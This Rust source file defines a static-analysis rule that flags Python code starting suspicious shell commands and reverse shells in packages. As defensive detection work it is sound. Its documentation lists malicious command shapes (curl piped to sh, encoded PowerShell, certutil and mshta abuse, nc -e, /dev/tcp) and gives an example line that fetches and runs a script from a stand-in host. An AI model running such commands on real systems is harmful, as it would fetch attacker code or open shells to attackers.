//! PY003 suspicious-shell-command.

use super::super::patterns::{SHELL_COMMANDS, matches};
use crate::context::{CodeFile, Cx};
use assay_core::{Capability, Finding, Severity};
use assay_lang::EventKind;

declare_rule! {
    /// ## What it does
    /// Flags process starts (`subprocess`, `os.system`, `os.popen`, `pty.spawn`, …) whose
    /// command — folded from literals, variables, `chr()` joins and decoded strings — has a
    /// known-malicious shape: `curl … | sh`, download-then-`chmod +x`, encoded or hidden
    /// PowerShell (`-enc`, `IEX`, `DownloadString`, `-w hidden`), LOLBins (`mshta`,
    /// `certutil -urlcache`, `bitsadmin /transfer`, `rundll32`, `regsvr32 /s`), reverse
    /// shells (`nc -e`, `/dev/tcp/`), hidden starts and executables in temp folders.
    ///
    /// ## Why it matters
    /// These commands fetch and run a second stage or open a shell to an attacker; build
    /// steps of real packages call compilers and `git`, not these.
    ///
    /// ## Example
    /// ```python
    /// import os
    /// os.system("curl -s https://example.invalid/x.sh | sh")
    /// ```
    ///
    /// ## False positives
    /// Developer tooling that documents install one-liners keeps them in strings, not in a
    /// process call; such strings are not flagged. Test suites of shell tools may start
    /// such commands at runtime (severity high, not critical). Descriptors redirected with
    /// `os.dup2` in a file that uses sockets are a reverse shell when automatic; when the
    /// redirected descriptor is a socket's and the file starts a shell (`pty.spawn`,
    /// `/bin/sh -i`), critical in any context. Daemons that redirect `/dev/null`, files or
    /// pipes onto standard descriptors are not flagged.
    ///
    /// ## References
    /// - CWE-78: OS Command Injection (here: deliberate)
    /// - MITRE ATT&CK T1059 (Command and Scripting Interpreter), T1218 (System Binary Proxy Execution)
    pub static META = SuspiciousShellCommand;
}

/// Check every process start.
pub fn check_file(cx: &Cx, f: &CodeFile, out: &mut Vec<Finding>) {
    for e in f
        .analysis
        .events
        .iter()
        .filter(|e| e.kind == EventKind::ProcessSpawn)
    {
        let cmd = e.arg.clone().unwrap_or_else(|| e.snippet.clone());
        let hits = matches(&SHELL_COMMANDS, &cmd);
        if hits.is_empty() {
            continue;
        }
        let test = f.is_test_or_doc();
        let sev = if test {
            Severity::Medium
        } else {
            META.rule.severity_in(e.context)
        };
        let mut x = cx.event_finding(&META, f, e, sev, format!("{}: {}", e.api, cmd));
        x.capabilities = vec![Capability::Process];
        out.push(x);
    }
    reverse_shell(cx, f, out);
}

/// Whether a process start runs an interactive shell (`pty.spawn`, `/bin/sh -i`, `bash`,
/// `cmd.exe`, `powershell`).
fn spawns_shell(e: &assay_lang::Event) -> bool {
    if e.api == "pty.spawn" {
        return true;
    }
    let cmd = e.arg.as_deref().unwrap_or(&e.snippet).to_ascii_lowercase();
    cmd.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.'))
        .any(|w| {
            matches!(
                w,
                "sh" | "bash"
                    | "zsh"
                    | "dash"
                    | "ksh"
                    | "cmd"
                    | "cmd.exe"
                    | "powershell"
                    | "powershell.exe"
            )
        })
}

/// Reverse shell: standard descriptors redirected to a socket. When the redirected
/// descriptor is a socket's and the file also starts a shell, this is a reverse shell in
/// any execution context (a function called later is as bad as import-time code: nothing
/// benign hands a shell's stdin/stdout to a network peer).
fn reverse_shell(cx: &Cx, f: &crate::context::CodeFile, out: &mut Vec<Finding>) {
    let events = &f.analysis.events;
    let socket = events
        .iter()
        .any(|e| e.kind == EventKind::Network || e.api.starts_with("socket."));
    let redirects: Vec<(&assay_lang::Event, &str, &str)> = events
        .iter()
        .filter(|e| e.kind == EventKind::FdRedirect)
        .map(|e| {
            let (from, to) = e
                .arg
                .as_deref()
                .and_then(|a| a.split_once(" -> "))
                .unwrap_or(("", ""));
            (e, from, to)
        })
        .collect();
    // The source descriptor of `os.dup2(src, dst)`, by what it was called on.
    let from_socket = |from: &str| {
        let l = from.to_ascii_lowercase();
        l.starts_with("socket.") || l.contains("sock") || l.contains("conn")
    };
    // Descriptors that are clearly not sockets: files, pipes, pty ends, /dev/null.
    let not_socket = |from: &str| {
        from.starts_with("os.open")
            || from.starts_with("open")
            || from.starts_with("sys.")
            || from.starts_with("os.pipe")
            || from.starts_with("pty.")
            || from.starts_with("tempfile.")
    };
    let shell = events
        .iter()
        .any(|e| e.kind == EventKind::ProcessSpawn && spawns_shell(e));
    let test = f.is_test_or_doc();
    let strong = redirects
        .iter()
        .find(|(_, from, to)| from_socket(from) && matches!(*to, "0" | "1" | "2"))
        .filter(|_| shell);
    let weak = redirects
        .iter()
        .find(|(_, from, _)| socket && !not_socket(from));
    let Some(&(e, _, _)) = strong.or(weak) else {
        return;
    };
    let sev = if test {
        Severity::Medium
    } else if strong.is_some() {
        Severity::Critical
    } else {
        META.rule.severity_in(e.context)
    };
    let what = if strong.is_some() {
        "reverse shell: a socket's descriptor redirected onto standard input/output, then a shell started"
    } else {
        "reverse shell: descriptors redirected to a socket"
    };
    let mut x = cx.event_finding(&META, f, e, sev, format!("{what}: {}", e.snippet));
    x.capabilities = vec![Capability::Process, Capability::Network];
    out.push(x);
}
